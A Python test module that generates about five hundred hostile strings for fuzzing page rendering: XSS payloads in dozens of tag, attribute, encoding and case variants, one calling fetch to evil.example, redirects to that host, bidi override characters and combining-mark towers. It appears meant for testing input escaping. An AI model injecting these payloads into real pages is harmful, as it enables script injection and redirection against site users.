"""Words that break pages: scripts, tags, attributes, styles, addresses, directions, towers of accents."""

import itertools

_RUN = ["window.hacked=1", "document.title='hacked'", "alert(1)", "fetch(`//evil.example`)"]
# fmt: off
_SHAPES = [
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", '"><script>{0}</script>',
    "'><svg/onload={0}>",
    "</title><script>{0}</script>", "</textarea><script>{0}</script>",
    "<iframe srcdoc='<script>{0}</script>'>", "{{{{{0}}}}}",
    "javascript:{0}", '" onmouseover="{0}', "' autofocus onfocus='{0}", "<a href=javascript:{0}>x</a>", "${{{0}}}",
    "<details open ontoggle={0}>", "</script><script>{0}</script>", "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "<math><mi//xlink:href='data:x,{0}'>", "<style>*{{background:url(javascript:{0})}}</style>", "<body onload={0}>",
    "[x](javascript:{0})", "![x](x onerror={0})", "<form action=javascript:{0}><input type=submit>", "{0}//</script>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//x>",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script>{0}</script>", "\\u003cscript\\u003e{0}", "%3Cscript%3E{0}",
    "<ScRiPt>{0}</sCrIpT>", "<scr\x00ipt>{0}</script>", "<\x0bscript>{0}</script>", "\ufeff<script>{0}</script>",
    "<input value='' onfocus={0} autofocus>", "<video><source onerror={0}>", "<object data=javascript:{0}>",
    "<!--{0}-->",
]
# fmt: on
_CASES = [str, lambda text: text.replace("script", "sCRipt"), lambda text: f"Anna {text}", lambda text: text[::-1]]
_DIRECTIONS = [
    "\u202eangel\u202c",
    "\u2066x\u2069\u2066",
    "a\u200fb\u200e",
    "\u061cx",
    "\u200b\u200b\u200b",
    "\u2028x\u2029",
]
_TOWERS = ["Z" + "\u0335\u0336\u0489" * 40, "e" + "\u0301" * 60 + "nd", "\u0e01" + "\u0e49" * 50, "ẗ̷̡̢̛" * 12]
_LONG = ["W" * 400, "🦑" * 120, "שלום" * 60, "ﷺ" * 80, "x\n" * 90, "\t" * 200, "а" * 300, "᚛" * 90, "𒐫" * 40]


def corpus() -> list[str]:
    """Some five hundred strings."""
    scripts = [case(shape.format(run)) for shape, run, case in itertools.product(_SHAPES, _RUN, _CASES)]
    return list(dict.fromkeys([*scripts, *_DIRECTIONS, *_TOWERS, *_LONG]))


DIRECTIONS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
